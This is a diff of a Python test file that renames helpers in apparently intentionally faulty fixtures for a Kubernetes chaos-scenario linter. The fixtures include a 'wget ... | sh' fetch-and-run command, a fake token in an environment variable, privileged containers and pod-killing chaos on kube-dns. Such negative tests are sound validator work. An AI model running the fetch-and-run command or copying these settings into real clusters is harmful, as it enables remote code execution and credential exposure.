@@ -34,13 +34,13 @@ def container(**more: Any) -> list[dict[str, Any]]:
     return [{"name": "main", "image": "busybox:1.37.0", **more}]
 
 
-def fetched_script(spec: Spec) -> None:
+def put_fetching_script(spec: Spec) -> None:
     script = "#!/bin/sh\napk add curl\n"
     body = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "scripts"}, "data": {"run.sh": script}}
     spec["decoys"][0]["changes"] = [{"create": body}]
 
 
-def drawn_pods(spec: Spec) -> None:
+def put_random_pod_experiment(spec: Spec) -> None:
     """An experiment on one pod of several."""
     labels = {"opentelemetry.io/name": "cart"}
     body = {"action": "pod-kill", "mode": "one", "selector": {"labelSelectors": labels}}
@@ -48,7 +48,7 @@ def drawn_pods(spec: Spec) -> None:
     spec["decoys"][0]["changes"] = [{"chaos": chaos}]
 
 
-def telling_parameter(spec: Spec) -> None:
+def put_revealing_parameter(spec: Spec) -> None:
     """A name of the scenario's own that a fault takes over."""
     spec["faults"].append(
         {
@@ -63,12 +63,12 @@ def telling_parameter(spec: Spec) -> None:
 
 def hint_by_parameter(spec: Spec) -> None:
     """A name of the scenario's own, which a fault gives to a container that says it again and again."""
-    telling_parameter(spec)
+    put_revealing_parameter(spec)
     fault = {"type": "init-container-dependency-missing", "parameters": {"serviceName": "culprit-cart"}}
     spec["faults"][-1].update(fault)
 
 
-def unread_variable(spec: Spec) -> None:
+def put_unread_variable(spec: Spec) -> None:
     """A variable that no part of the lab reads."""
     parameters = {"name": "GOMEMLIMIT", "value": "16", "container": "checkout"}
     spec["faults"].append(
@@ -88,13 +88,13 @@ TOKEN = "ghp_" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6"
 STRANGERS = {"namespaces": ["kube-system"], "labelSelectors": {"k8s-app": "kube-dns"}}
 
 
-def killing(selector: dict[str, Any]) -> dict[str, Any]:
+def build_pod_kill(selector: dict[str, Any]) -> dict[str, Any]:
     """An experiment on the pods of a selector."""
     body = {"action": "pod-kill", "mode": "all", "selector": selector}
     return {"apiVersion": "chaos-mesh.org/v1alpha1", "kind": "PodChaos", "metadata": {"name": "x"}, "spec": body}
 
 
-def losing(*targets: str) -> dict[str, Any]:
+def build_packet_loss(*targets: str) -> dict[str, Any]:
     """An experiment on what a component of the shop sends to these targets."""
     selector = {"namespaces": ["otel-demo"], "labelSelectors": {"opentelemetry.io/name": "cart"}}
     body = {"action": "loss", "mode": "all", "loss": {"loss": "100", "correlation": "0"}, "direction": "to"}
@@ -104,20 +104,20 @@ def losing(*targets: str) -> dict[str, Any]:
 
 #: Scenarios: the change of `spec`, and of the folder, in tests of their own below.
 VIOLATIONS: dict[str, Callable[[Spec], Any]] = {
-    "SK150": decoy({"chaos": killing(STRANGERS)}),
-    "SK151": decoy({"chaos": losing("redis-master.default.svc.cluster.local")}),
+    "SK150": decoy({"chaos": build_pod_kill(STRANGERS)}),
+    "SK151": decoy({"chaos": build_packet_loss("redis-master.default.svc.cluster.local")}),
     "SK201": decoy(pod(containers=[{"name": "main", "image": "busybox"}])),
     "SK202": decoy(pod(hostNetwork=True)),
     "SK203": decoy(role("ClusterRole", rules=[{"apiGroups": [""], "resources": ["pods"], "verbs": ["delete"]}])),
-    "SK204": fetched_script,
+    "SK204": put_fetching_script,
     "SK206": lambda s: s.update(description=f"Push with {TOKEN} and wait."),
     "SK208": lambda s: s["expect"]["alerts"][0].update(withinSeconds=7200),
-    "SK210": telling_parameter,
+    "SK210": put_revealing_parameter,
     "SK213": decoy(role("Role", rules=[{"apiGroups": ["chaos-mesh.org"], "resources": ["*"], "verbs": ["get"]}])),
-    "SK214": drawn_pods,
+    "SK214": put_random_pod_experiment,
     "SK215": decoy(pod(containers=[{"name": "main", "image": "busybox:stable"}])),
     "SK219": decoy(pod(containers=container(command=["sh", "-c", "date"]))),
-    "SK911": unread_variable,
+    "SK911": put_unread_variable,
     "SK220": decoy(role("Role", metadata={"name": "viewer", "finalizers": ["example.com/kept"]}, rules=[])),
     "SK221": hint_by_parameter,
     "SK235": decoy(
@@ -205,22 +205,22 @@ POD = (*CREATE, "spec", "template", "spec")
 MAIN = (*POD, "containers", 0)
 
 
-def created(**body: Any) -> list[Edit]:
+def add_fault_change(**body: Any) -> list[Edit]:
     """One more change of the fault."""
     return [Put(("changes", 2), {"create": body})]
 
 
-def repaired(**body: Any) -> list[Edit]:
+def add_solution_change(**body: Any) -> list[Edit]:
     """One more change of the fault's solution."""
     return [Put(("solutions", 0, "changes", 1), {"create": body})]
 
 
-def merged(patch: dict[str, Any]) -> dict[str, Any]:
+def build_merge_patch(patch: dict[str, Any]) -> dict[str, Any]:
     """A patch of the target."""
     return {"patch": {"target": "{{ target }}", "type": "Merge", "patch": patch}}
 
 
-def asked(expr: str) -> list[Edit]:
+def add_effect_query(expr: str) -> list[Edit]:
     """One more proof of the fault, by a query."""
     return [Put(("effect", 1), {"query": {"expr": expr, "is": "Equal", "value": 0}})]
 
@@ -229,16 +229,16 @@ RBAC = {"apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "{{ n
 #: Edits of the good fault. Every rule that judges faults has one.
 FAULTS: dict[str, list[Edit]] = {
     "SK150": [
-        Put(("changes", 2), {"chaos": {**killing(STRANGERS), "metadata": {"name": "{{ neutral('pod') }}"}}}),
+        Put(("changes", 2), {"chaos": {**build_pod_kill(STRANGERS), "metadata": {"name": "{{ neutral('pod') }}"}}}),
         Put(("requires",), ["real-data-plane", "chaos-mesh"]),
     ],
     "SK141": [Put(("effect", 0, "endpoints"), {"service": "{{ target }}", "atLeast": 0})],
     "SK225": [Put(("requires", 1), "node-access")],
     "SK453": [Put(("entities", 0, "field"), "spec.ports")],
-    "SK117": asked("sum(up"),
-    "SK118": asked("sum(up{pod=~'frontend.*'})"),
-    "SK119": asked("sum(up{service_name='carts-and-more'})"),
-    "SK309": asked("sum(rate(x{service_name=~'{{ target.name }}*'}[1m]))"),
+    "SK117": add_effect_query("sum(up"),
+    "SK118": add_effect_query("sum(up{pod=~'frontend.*'})"),
+    "SK119": add_effect_query("sum(up{service_name='carts-and-more'})"),
+    "SK309": add_effect_query("sum(rate(x{service_name=~'{{ target.name }}*'}[1m]))"),
     "SK003": [Put(("name",), "labels-found")],
     "SK121": [Put(("changes", 1, "patch", "target"), "Service/nowhere")],
     "SK123": [Put(("changes", 1, "patch", "patch"), {"spec": {"selector": {"x": "{{ nobody }}"}}})],
@@ -262,20 +262,25 @@ FAULTS: dict[str, list[Edit]] = {
     ],
     "SK129": [Drop(("undone",))],
     "SK151": [
-        Put(("changes", 2), {"chaos": {**losing("redis-master"), "metadata": {"name": "{{ neutral('net') }}"}}}),
+        Put(
+            ("changes", 2),
+            {"chaos": {**build_packet_loss("redis-master"), "metadata": {"name": "{{ neutral('net') }}"}}},
+        ),
         Put(("changes", 2, "chaos", "spec", "selector", "namespaces"), ["{{ target.namespace }}"]),
         Put(("requires",), ["real-data-plane", "chaos-mesh", "chaos-daemon", "netem"]),
     ],
     "SK201": [Put((*MAIN, "image"), "busybox")],
     "SK202": [Put((*MAIN, "securityContext"), {"privileged": True})],
     "SK203": [
-        *created(kind="ClusterRole", rules=[{"apiGroups": [""], "resources": ["pods"], "verbs": ["delete"]}], **RBAC),
+        *add_fault_change(
+            kind="ClusterRole", rules=[{"apiGroups": [""], "resources": ["pods"], "verbs": ["delete"]}], **RBAC
+        ),
         Put(("scope",), "Cluster"),
     ],
     "SK204": [Put((*MAIN, "command"), ["sh", "-c", "wget https://example.com/flood.sh -O- | sh"])],
     "SK206": [Put((*MAIN, "env"), [{"name": "PGPASSWORD", "value": TOKEN}])],
     "SK208": [Put(("effect", 0, "withinSeconds"), 3600)],
-    "SK209": created(
+    "SK209": add_fault_change(
         apiVersion="networking.k8s.io/v1",
         kind="NetworkPolicy",
         metadata={"name": "{{ neutral('pods') }}"},
@@ -283,14 +288,14 @@ FAULTS: dict[str, list[Edit]] = {
     ),
     "SK210": [Put((*CREATE, "metadata", "name"), "packet-dropper-drop")],
     "SK212": [Put((*CREATE, "metadata", "labels"), {"app": "batch", "from": "{{ fault }}"})],
-    "SK213": created(
+    "SK213": add_fault_change(
         kind="Role", rules=[{"apiGroups": ["scenariokit.io"], "resources": ["*"], "verbs": ["get"]}], **RBAC
     ),
     "SK214": [Put((*MAIN, "command"), ["sh", "-c", "sleep $((RANDOM % 60)); sleep $RANDOM"])],
     "SK215": [Put((*MAIN, "image"), "busybox:stable")],
     "SK220": [Put((*CREATE, "metadata", "finalizers"), ["example.com/kept"])],
     "SK221": [Put((*CREATE, "metadata", "annotations"), {"ops/culprit": "yes"})],
-    "SK235": repaired(
+    "SK235": add_solution_change(
         apiVersion="node.k8s.io/v1", kind="RuntimeClass", metadata={"name": "{{ neutral('batch') }}"}, handler="a"
     ),
     "SK226": [Put((*CREATE, "spec", "replicas"), 100_000)],
@@ -302,7 +307,7 @@ FAULTS: dict[str, list[Edit]] = {
         Put(("changes", 1, "patch", "patch"), {"spec": {"externalIPs": ["10.0.0.1"]}}),
         Put(("entities", 0, "field"), "spec.externalIPs"),
     ],
-    "SK238": repaired(
+    "SK238": add_solution_change(
         apiVersion="v1",
         kind="ServiceAccount",
         metadata={"name": "{{ neutral('batch') }}", "annotations": {"cloud.example.com/open": "true"}},
@@ -311,7 +316,7 @@ FAULTS: dict[str, list[Edit]] = {
     "SK413": [Put(("solutions", 0, "changes", 0), {"removeFault": {"fault": "{{ fault }}"}})],
     "SK414": [Drop(("mitigation",))],
     "SK304": [Put(("changes", 1, "patch", "patch"), {"spec": {"selector": "{{ object.spec.selector }}"}})],
-    "SK428": [Put(("entities", 0, "fix"), [merged({"metadata": {"annotations": {"note": "x"}}})])],
+    "SK428": [Put(("entities", 0, "fix"), [build_merge_patch({"metadata": {"annotations": {"note": "x"}}})])],
     "SK434": [
         Put(
             ("solutions", 0, "changes", 0, "patch", "patch", 1),
